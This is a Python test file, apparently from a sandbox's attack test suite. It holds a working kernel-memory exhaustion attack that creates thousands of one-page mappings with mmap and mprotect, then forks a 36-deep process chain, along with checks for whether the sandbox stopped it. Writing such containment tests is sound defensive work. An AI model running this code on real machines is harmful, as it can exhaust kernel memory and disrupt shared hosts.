# ruff: noqa: E501  (an attack is easier to read on its one line)
"""Wants the machine's memory, by mappings of one page: for each the kernel keeps links to all processes that it was copied from.

Won: 360,000 mappings were had at once, which is 700 MB of the kernel's own memory.
"""

from tests.attacks.lab import Attack, Evidence

WALL = "mappings_are_counted"
CELL = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
at = libc.mmap(None, 10_000 << 12, 3, 0x22, -1, 0)
for n in range(10_000):
    ctypes.c_char.from_address(at + (n << 12)).value = b"x"
    if n % 2:
        libc.mprotect(at + (n << 12), 4096, 1)
read, write = os.pipe()
def generations(left):
    if left and os.fork() == 0:
        os.write(write, b"1")
        generations(left - 1)
        time.sleep(9)
        os._exit(0)
"""
FORK = """
generations(36)
time.sleep(1.5)
"""
WAIT = """
time.sleep(1.5)
"""
TELL = """
time.sleep(1.5)
os.set_blocking(read, False)
number = len(os.read(read, 99)) * 10_000
if number >= 360_000:
    raise Exception(f"LOOT {number} mappings")
"""
ATTACK = Attack(first=[CELL, FORK, WAIT, TELL])


def won(evidence: Evidence) -> bool:
    return "LOOT" in evidence.loot


def took_place(evidence: Evidence) -> bool:
    """It was ended for its memory."""
    return "MemoryLimit" in evidence.ended
